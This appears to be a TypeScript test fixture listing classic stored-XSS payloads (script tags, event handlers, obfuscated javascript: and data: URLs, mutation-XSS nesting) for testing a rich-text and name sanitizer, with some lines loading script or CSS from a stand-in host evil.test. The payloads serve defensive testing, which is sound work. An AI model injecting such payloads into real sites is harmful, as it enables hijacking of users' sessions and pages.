/**
 * Classic stored-XSS payloads. Each one, if it ever ran in a page, would set `window.__xss`;
 * the end-to-end test looks for that flag, the API tests for what the payload tried to keep.
 */
export const RICH_TEXT_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<p>hola<script src="https://evil.test/x.js"></script></p>',
  '<img src=x onerror="window.__xss=1">',
  '<img src="https://example.com/a.png" onload="window.__xss=1">',
  '<a href="javascript:window.__xss=1">enlace</a>',
  '<a href="JaVaScRiPt&colon;window.__xss=1">mayúsculas</a>',
  '<a href="java&#x09;script:window.__xss=1">tabulador</a>',
  '<a href="  javascript:window.__xss=1">espacios</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+">',
  '<svg onload="window.__xss=1"><circle r="1"/></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<div style="background:url(javascript:window.__xss=1);width:expression(window.__xss=1)">estilo</div>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
  '<object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1">',
  '<form action="javascript:window.__xss=1"><button>enviar</button></form>',
  '<base href="javascript:/"><meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<body onload="window.__xss=1">cuerpo</body>',
  '<p onmouseover="window.__xss=1" onclick="window.__xss=1">pasa el ratón</p>',
  '<a href="https://example.com" target="_blank">bien</a><!--<script>window.__xss=1</script>-->',
  '<<script>script>window.__xss=1<</script>/script>',
  '<img src=`x` onerror=window.__xss=1>',
];

/** Names and plain texts: stored as typed and shown as text, never as markup. */
export const NAME_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror=window.__xss=1>',
  '"><svg onload=window.__xss=1>',
  '<a href="javascript:window.__xss=1">nombre</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
];
